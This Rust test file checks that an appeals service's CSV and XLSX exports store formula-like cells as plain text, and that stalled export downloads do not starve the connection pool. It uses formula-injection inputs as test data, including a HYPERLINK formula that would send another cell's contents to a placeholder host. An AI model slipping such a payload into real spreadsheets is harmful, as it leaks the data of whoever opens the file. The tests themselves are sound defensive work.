//! Appeal exports: formula injection in CSV and XLSX, and slow downloads that must not
//! starve the connection pool.

use std::time::Duration;

use diesel::connection::SimpleConnection;
use serde_json::{json, Value};

use crate::both_backends;
use crate::helpers::*;

const FORMULA: &str = "=HYPERLINK(\"http://x/?\"&L2,\"click\")";

async fn staff(app: &TestApp) -> (Auth, String) {
    app.create_user("export@test.kz", "district_staff", Some(kato::BAIZAK), None);
    let res = app.login("export@test.kz", PASSWORD).await;
    let token = res.json()["access_token"].as_str().unwrap().to_owned();
    (Auth::Bearer(token.clone()), token)
}

async fn create(app: &TestApp, auth: &Auth, subject: &str, description: &str) -> Value {
    let body = json!({
        "channel": "reception_room",
        "category": "UTIL_WATER",
        "territory_id": app.territory(kato::SARYKEMER),
        "citizen": {"full_name": "Сейтқали Айгүл"},
        "subject": subject,
        "description": description,
        "language": "kk"
    });
    let res = app.post("/api/v1/appeals", auth, body).await;
    assert_eq!(res.status, 201, "{}", res.text);
    res.json()
}

/// `copies` more appeals like `id`, in one statement (the same SQL on both backends).
fn clone_appeal(app: &TestApp, id: i64, copies: usize) {
    let cols = "status, channel, category_code, territory_id, territory_path, reception_id, \
                anonymous, threat_report, subject, description, language, received_at, \
                registered_on, due_on, created_at, updated_at, version";
    app.conn()
        .batch_execute(&format!(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {copies}) \
             INSERT INTO appeals (reg_number, search_text, {cols}) \
             SELECT a.reg_number || '-' || CAST(n.i AS TEXT), '', {cols_a} FROM appeals a, n WHERE a.id = {id}",
            cols_a = cols.split(", ").map(|c| format!("a.{}", c.trim())).collect::<Vec<_>>().join(", "),
        ))
        .expect("cloning appeals");
}

both_backends! {
    async fn csv_cells_that_look_like_formulas_are_text(app) {
        let (auth, _) = staff(&app).await;
        create(&app, &auth, FORMULA, "-2+3 бір нәрсе").await;
        create(&app, &auth, "@SUM(A1:A9)", "=1+1 екі").await;
        create(&app, &auth, "Ауыз су", "Қарапайым мәтін").await;
        let res = app.get("/api/v1/appeals/export?format=csv", &auth).await;
        assert_eq!(res.status, 200, "{}", res.text);
        let text = res.text.trim_start_matches('\u{feff}');
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        let cells: Vec<(String, String)> = rows.iter().map(|r| (r[14].to_owned(), r[15].to_owned())).collect();
        assert_eq!(cells, [
            ("Ауыз су".to_owned(), "Қарапайым мәтін".to_owned()),
            ("'@SUM(A1:A9)".to_owned(), "'=1+1 екі".to_owned()),
            (format!("'{FORMULA}"), "'-2+3 бір нәрсе".to_owned()),
        ]);
    }

    async fn xlsx_cells_that_look_like_formulas_are_strings(app) {
        let (auth, token) = staff(&app).await;
        create(&app, &auth, FORMULA, "+1 бір нәрсе").await;
        let res = app.client.get(app.url("/api/v1/appeals/export?format=xlsx")).bearer_auth(token).send().await.unwrap();
        assert_eq!(res.status(), 200);
        let bytes = res.bytes().await.unwrap();
        use calamine::{Data, Reader};
        let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
        let formulas = book.worksheet_formula("Appeals").unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no cell holds a formula");
        let sheet = book.worksheet_range("Appeals").unwrap();
        let row = sheet.rows().nth(1).unwrap();
        assert_eq!(row[14], Data::String(FORMULA.to_owned()), "the text is kept as it was typed");
        assert_eq!(row[15], Data::String("+1 бір нәрсе".to_owned()));
    }

    async fn slow_export_readers_do_not_starve_other_requests(app) {
        let (auth, token) = staff(&app).await;
        // Rows of about 2 KB, many pages of them: far more than the export's queue and
        // the sockets' buffers hold, so a stalled reader really stalls the export.
        let first = create(&app, &auth, "Ауыз су", &"су ".repeat(700)).await;
        clone_appeal(&app, first["id"].as_i64().unwrap(), 7999);
        // As many stalled downloads as the pool has connections (4 in tests).
        let mut stalled = Vec::new();
        for _ in 0..4 {
            let mut res = app.client.get(app.url("/api/v1/appeals/export?format=csv")).bearer_auth(&token).send().await.unwrap();
            assert_eq!(res.status(), 200);
            let first = res.chunk().await.unwrap().expect("a first chunk");
            stalled.push((first, res));
        }
        tokio::time::sleep(Duration::from_millis(1500)).await;
        // Starved, the list would wait out the pool's 5-second checkout and fail; the
        // outer timeout only guards against a hang, so a loaded machine cannot fail it.
        for _ in 0..3 {
            let res = tokio::time::timeout(Duration::from_secs(30), app.get("/api/v1/appeals?limit=5", &auth))
                .await
                .expect("the list answers while exports stall");
            assert_eq!(res.status, 200, "{}", res.text);
        }
        // A stalled export still completes, every row once, when its reader resumes.
        let (first, mut resumed) = stalled.pop().unwrap();
        let mut body = first.to_vec();
        while let Some(chunk) = resumed.chunk().await.unwrap() {
            body.extend_from_slice(&chunk);
        }
        let mut reader = csv::Reader::from_reader(&body[3..]);
        let regs: std::collections::HashSet<String> = reader.records().map(|r| r.unwrap()[0].to_owned()).collect();
        assert_eq!(regs.len(), 8000);
    }
}
